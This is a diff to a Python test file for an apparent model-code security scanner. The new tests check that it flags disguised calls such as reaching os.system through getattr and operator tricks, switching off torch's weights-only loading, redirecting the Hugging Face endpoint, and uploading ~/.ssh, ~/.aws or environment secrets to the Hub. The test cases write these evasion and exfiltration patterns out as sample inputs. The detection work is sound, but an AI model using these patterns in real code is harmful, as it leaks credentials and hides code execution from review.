@@ -14,6 +14,8 @@ from modelaudit.model.structure import UnreadReason
 
 # Names under which the call of a function that the source does not write out is recorded.
 COMPUTED_FUNCTION = "(function that is worked out)"
+# The same where the called object itself has a computed name in a computed module.
+PICKED_FUNCTION = "(function reached by computed names)"
 # The name under which the call of an object is recorded that a walk over all modules or objects has found.
 FOUND_OBJECT = "(every loaded object).*"
 WALK = "import sys\nfound = [v for m in list(sys.modules.values()) for k, v in vars(m).items() if k[1:] == 'ystem']\n"
@@ -36,7 +38,8 @@ def list_uses(source: str) -> set[tuple[str, str]]:
         ("import os\nos.posix.getcwd.__self__.system('x')", "call-at-import", "os.system"),
         ("import json, importlib\nd = json.load(open('a'))\ngetattr(importlib.import_module(d['a']), 'b')()",
          "call-at-import", FUNCTION_FROM_FILE),
-        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", COMPUTED_FUNCTION),
+        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", PICKED_FUNCTION),
+        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n).get(1)", "call-at-import", COMPUTED_FUNCTION),
         ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
         ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
         ("import tensorflow as tf\ntf.keras.models.load_model('x', safe_mode=False)", "call-at-import",
@@ -90,6 +93,129 @@ def test_calls_reached_through_data_flow_or_with_risky_arguments_are_mentioned(
     source: str, use: str, name: str
 ) -> None:
     assert (use, name) in list_uses(source)
+
+
+@check_each(
+    "call",
+    [
+        "getattr(import_module(c.a), c.b)(1)",
+        "pydoc.locate(c.a)(1)",
+        "operator.methodcaller(c.b, 1)(import_module(c.a))",
+        "operator.attrgetter(c.b)(sys.modules[c.a])(1)",
+        "list(map(getattr(sys.modules[c.a], c.b), c.c))",
+        "functools.partial(inspect.getattr_static(sys.modules[c.a], c.b), 1)()",
+        "type('A', (), {'run': staticmethod(getattr(import_module(c.a), c.b))}).run(1)",
+        "threading.Thread(target=getattr(import_module(c.a), c.b)).start()",
+        "c.step = getattr(import_module(c.a), c.b); c.step(1)",
+        "(lambda m, n: getattr(import_module(m), n)(1))(c.a, c.b)",
+        "vars(import_module(c.a))[c.b](1)",
+    ],
+)
+def test_call_of_an_object_that_only_computed_names_reach_is_mentioned(call: str) -> None:
+    imports = "import functools, inspect, operator, pydoc, sys, threading\nfrom importlib import import_module\n"
+    assert ("call", PICKED_FUNCTION) in list_uses(f"{imports}def f(c):\n    {call}")
+
+
+@check_each(
+    "call",
+    [
+        "getattr(torch, c.a)(1)",
+        "getattr(torch.nn, c.a)().b(1)",
+        "importlib.import_module(c.a).load(1)",
+        "getattr(importlib.import_module(c.a), c.b).from_pretrained(1)",
+        "x = getattr(importlib.import_module(c.a), c.b); y = x.make(1); y(2)",
+        "globals()[c.a](1)",
+    ],
+)
+def test_call_of_a_written_name_or_in_a_written_module_is_not_taken_for_any_function(call: str) -> None:
+    assert PICKED_FUNCTION not in {name for _, name in list_uses(f"import importlib, torch\ndef f(c):\n    {call}")}
+
+
+_FORCED = "os.environ[TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD]"
+
+
+@check_each(
+    "source, name",
+    [
+        ("os.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'", _FORCED),
+        ("os.putenv('TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD', '1')", _FORCED),
+        ("os.environ.update({'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': x})", _FORCED),
+        ("os.environ.setdefault('TORCH_FORCE_' + 'NO_WEIGHTS_ONLY_LOAD', 'true')", _FORCED),
+        ("setattr(torch, 'load', lambda f: old(f, weights_only=False))", "torch.load[=]"),
+        ("os.environ['HF_ENDPOINT'] = 'https://mirror.invalid.example'", "os.environ[HF_ENDPOINT]"),
+        ("huggingface_hub.constants.ENDPOINT = x", "huggingface_hub.constants.ENDPOINT[=]"),
+    ],
+)
+def test_guard_that_is_taken_away_is_mentioned(source: str, name: str) -> None:
+    assert ("overwrite", name) in list_uses(f"import os, torch, huggingface_hub\n{source}")
+
+
+@check_each(
+    "source",
+    [
+        "os.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
+        "os.environ.update({'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': 'false'})",
+        "os.environ['HF_ENDPOINT'] = 'https://huggingface.co'",
+        "torch.load = functools.partial(torch.load, weights_only=True)",
+    ],
+)
+def test_guard_that_stays_in_place_is_not_mentioned(source: str) -> None:
+    assert not [name for use, name in list_uses(f"import functools, os, torch\n{source}") if use == "overwrite"]
+
+
+@check_each(
+    "call, is_sent",
+    [
+        ("api.upload_folder(folder_path='/root/.ssh', repo_id='a/b')", True),
+        ("api.upload_folder(folder_path=os.path.expanduser('~/.aws'), repo_id='a/b')", True),
+        ("HfApi().upload_file(path_or_fileobj='/home/a/.ssh/id_rsa', path_in_repo='a', repo_id='a/b')", True),
+        ("model.push_to_hub('a/b', commit_message=os.environ['HF_TOKEN'])", True),
+        ("Dataset.from_dict(dict(os.environ)).push_to_hub('a/b')", True),
+        ("api.upload_folder(folder_path='out', repo_id='a/b', token=os.environ['HF_TOKEN'])", False),
+        ("HfApi(token=os.environ['HF_TOKEN']).upload_file(path_or_fileobj='a.bin', path_in_repo='a', repo_id='a/b')", False),
+        ("AutoModel.from_pretrained('a/b', token=os.environ['HF_TOKEN']).push_to_hub('a/b')", False),
+        ("model.push_to_hub('a/b')", False),
+    ],
+)  # fmt: skip
+def test_secret_that_is_published_on_the_hub_is_mentioned(call: str, is_sent: bool) -> None:
+    imports = "import os\nfrom datasets import Dataset\nfrom huggingface_hub import HfApi\nfrom transformers import AutoModel\n"
+    assert ("sends-secret" in {use for use, _ in list_uses(f"{imports}def f(api, model): {call}")}) is is_sent
+
+
+def test_interpreter_attribute_that_is_taken_as_an_item_of_a_namespace_is_mentioned() -> None:
+    assert ("reference", "*.__subclasses__") in list_uses("type.__dict__['__subclasses__'](object)")
+
+
+@check_each(
+    "call, name",
+    [
+        ("kernels.LayerRepository(repo_id='other/repo', layer_name='a')", "kernels.LayerRepository(foreign)"),
+        ("kernels.get_locked_kernel('other/repo')", "kernels.get_locked_kernel(foreign)"),
+        ("kernels.LayerRepository('kernels-community/activation', 'a')", "kernels.LayerRepository"),
+    ],
+)
+def test_kernel_of_a_stranger_is_mentioned_as_foreign(call: str, name: str) -> None:
+    assert ("call-at-import", name) in list_uses(f"import kernels\n{call}")
+
+
+@check_each(
+    "source, name",
+    [
+        ("import operator, os\noperator.itemgetter('system')(vars(os))('x')", "os.system"),
+        ("import operator, os\noperator.getitem(vars(os), 'system')('x')", "os.system"),
+        ("import operator, os\noperator.methodcaller('system', 'x')(os)", "os.system"),
+        ("import os\n[getattr(os, n) for n in dir(os) if n == 'system'][0]('x')", "os.system"),
+        ("import huggingface_hub.utils as u\n[getattr(u, n) for n in dir(u) if 'run_subprocess' == n][0]('x')",
+         "huggingface_hub.utils.run_subprocess"),
+        ("import os\nfor n in dir(os):\n    if n == 'system': getattr(os, n)('x')", "os.system"),
+        ("def n(value='os'): return value\n__import__(n()).system('x')", "os.system"),
+        ("import functools, os\nfunctools.reduce(lambda f, a: f(*a), [os.system, ['x']])", "os.system"),
+        ("import os\nsorted([os.system], key=lambda f: id(f('x')))", "os.system"),
+        ("try:\n    import os as o\nexcept ImportError:\n    o = None\nvars(o)['system']('x')", "os.system"),
+    ],
+)  # fmt: skip
+def test_call_through_getters_comparisons_and_defaults_is_resolved(source: str, name: str) -> None:
+    assert name in {each for use, each in list_uses(source) if use in ("call-at-import", "hidden")}
 
 
 @check_each(
